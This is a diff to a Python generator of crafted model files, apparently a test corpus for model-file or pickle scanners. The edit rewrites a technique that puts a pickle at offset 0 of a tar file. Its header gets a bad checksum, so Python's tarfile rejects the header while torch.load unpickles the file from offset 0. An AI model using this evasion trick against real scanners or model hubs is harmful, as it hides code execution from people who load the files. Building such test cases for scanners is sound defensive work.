@@ -125,13 +125,21 @@ def tar_gnu_longname(m: Path) -> bytes:
     )
 
 
+def bad_checksum_block(pickled: bytes) -> bytes:
+    """A first tar block that is a pickle (with ustar magic when there is room); its checksum
+    field is not a number, so tarfile rejects it."""
+    block = bytearray(pickled + bytes(-len(pickled) % 512 or 512 * (not pickled)))
+    if len(pickled) < 257:
+        block[257:265] = b"ustar\x0000"
+    return bytes(block)
+
+
 @technique("tar-bad-checksum-pickle-at-zero", family="torch", filename="model.tar")
 def tar_bad_checksum(m: Path) -> bytes:
-    """A pickle in the first header's name; bad checksum: tarfile rejects, torch unpickles @0."""
-    first = payload(m, protocol=0)
-    assert len(first) <= 100, len(first)
+    """A pickle at offset 0 where the first tar header sits; tarfile rejects the header (bad
+    checksum), so torch.load unpickles the file from offset 0; the rest is a valid legacy tar."""
     return (
-        tar_header(first, 0, good_checksum=False)
+        bad_checksum_block(payload(m, protocol=0))
         + legacy_members(b"")
         + tar_member(b"pickle", pickle.dumps({"w": 1}, protocol=2))
         + _end()
